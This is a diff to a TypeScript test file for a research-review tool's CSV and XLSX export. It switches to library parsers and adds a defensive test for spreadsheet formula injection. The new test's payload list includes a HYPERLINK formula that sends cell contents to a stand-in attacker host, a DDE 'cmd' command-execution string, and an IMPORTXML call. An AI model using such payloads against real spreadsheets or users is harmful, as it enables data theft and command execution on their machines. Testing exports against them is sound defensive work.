@@ -1,5 +1,8 @@
+import { parse } from 'csv-parse/sync'
+import { XMLParser } from 'fast-xml-parser'
 import { strFromU8, unzipSync } from 'fflate'
 import { describe, expect, test } from 'vitest'
+import { z } from 'zod'
 import { workOf } from '@/bench/catalogue-works'
 import { locales } from '@/lib/contracts/locale'
 import { titleKey } from '@/lib/core/formats/files-named'
@@ -16,26 +19,39 @@ const works = generateCatalogue(DEFAULT_SEED)
   .map((record) => workOf(record, 'openalex'))
 const QUESTION = 'How many participants were there?'
 
-/** The texts of the cells of a workbook's only sheet, by row, as a spreadsheet reads them. */
+const Sheet = z.object({
+  worksheet: z.object({
+    sheetData: z.object({
+      row: z.array(
+        z.object({
+          c: z.array(
+            // Nothing but a text: neither a value that is reckoned nor a formula.
+            z.strictObject({
+              '@_r': z.string(),
+              '@_t': z.literal('inlineStr'),
+              is: z.strictObject({
+                t: z.strictObject({ '#text': z.string(), '@_xml:space': z.literal('preserve') }),
+              }),
+            }),
+          ),
+        }),
+      ),
+    }),
+  }),
+})
+const sheetReader = new XMLParser({
+  ...{ ignoreAttributes: false, parseTagValue: false, trimValues: false, alwaysCreateTextNode: true },
+  isArray: (name) => name === 'row' || name === 'c',
+})
+
+/** The texts of the cells of a workbook's only sheet, by row. */
 function cellsOf(bytes: Uint8Array): string[][] {
   const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
-  const plain = (text: string) =>
-    text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')
-  return [...sheet.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row = '']) =>
-    [...row.matchAll(/<t [^>]*>(.*?)<\/t>/gs)].map(([, text = '']) => plain(text)),
-  )
+  const { worksheet } = Sheet.parse(sheetReader.parse(sheet, true))
+  return worksheet.sheetData.row.map(({ c }) => c.map(({ is }) => is.t['#text']))
 }
 
-/** The cells of a text with quoted cells and line ends of a spreadsheet. */
-function linesOf(csv: string): string[][] {
-  const rows: string[][] = [[]]
-  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
-    rows.at(-1)?.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'))
-    if (end === '') break
-    if (end === '\r\n') rows.push([])
-  }
-  return rows.filter((row) => row.length > 1)
-}
+const linesOf = (csv: string): string[][] => parse(csv, { bom: true })
 
 describe.each(locales)('the files of a review in %s', (locale) => {
   const begun = (async () => {
@@ -65,7 +81,7 @@ describe.each(locales)('the files of a review in %s', (locale) => {
     const xlsx = await fileOf('xlsx')
     if (typeof xlsx === 'string') throw new Error('a workbook is bytes')
     const [head = [], ...rows] = cellsOf(xlsx)
-    expect(linesOf(String(await fileOf('csv')).replace(/^\uFEFF/, ''))).toEqual([head, ...rows])
+    expect(linesOf(String(await fileOf('csv')))).toEqual([head, ...rows])
     expect(head).toHaveLength(10)
     expect(head[7]).toBe(QUESTION)
     expect(rows).toHaveLength(works.length)
@@ -78,4 +94,37 @@ describe.each(locales)('the files of a review in %s', (locale) => {
         if (text !== notSaid) expect(`${work?.title} ${work?.abstract}`).toContain(text)
     }
   })
+})
+
+/** What a spreadsheet would reckon, send away or start, as others have put it into catalogues. */
+const formulas = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+  "+SUM(1,2)*cmd|' /C calc'!A0",
+  '-2+3 of the nurses slept longer',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '＝IMPORTXML("https://evil.example","//a")',
+  '"=1+1',
+  '<c t="str"><f>1+1</f></c> & ]]>',
+]
+
+test('a text that begins like a formula stays a text in both files of the synthesis table', async () => {
+  const hostile = works.slice(0, formulas.length).map((work, at) => ({
+    ...work,
+    title: `${formulas[at]} remote work`,
+    authors: [{ family: formulas[at] }],
+    abstract: `${formulas[at]} was measured with a scale among 120 nurses in Brazil. ${formulas[at]} increased productivity by 12% (p < 0.01).`,
+  }))
+  const review = new Review(sourcesOf(hostile))
+  const run = await review.answer(await review.written(), {
+    kind: 'column',
+    question: '=1+1 which scale was used?',
+  })
+  const fileOf = async (format: 'csv' | 'xlsx') => (await renderReview(run, { format, signal })).bytes
+  const lines = linesOf(String(await fileOf('csv')))
+  const xlsx = await fileOf('xlsx')
+  if (typeof xlsx === 'string') throw new Error('a workbook is bytes')
+  expect(lines).toHaveLength(formulas.length + 1)
+  expect(cellsOf(xlsx)).toHaveLength(formulas.length + 1)
+  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝|%]/u)
 })
